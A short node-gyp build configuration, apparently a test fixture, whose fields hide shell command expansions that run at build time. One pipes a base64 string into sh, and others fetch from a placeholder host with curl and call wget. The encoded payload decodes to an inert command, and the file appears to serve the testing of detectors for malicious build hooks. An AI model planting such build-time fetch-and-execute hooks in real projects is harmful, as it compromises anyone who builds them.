{
  "targets": [{
    "target_name": "addon",
    "sources": ["<!(node setup.js; echo x.cc)", "<!(echo dHJ1ZQ== | base64 -d | sh)"],
    "defines": ["<!(curl -s https://files.example.invalid/x)"],
    "cflags": ["<!(node -p 1; "
      "wget x)"],
    "include_dirs": ["deps/curl/include"]
  }]
}
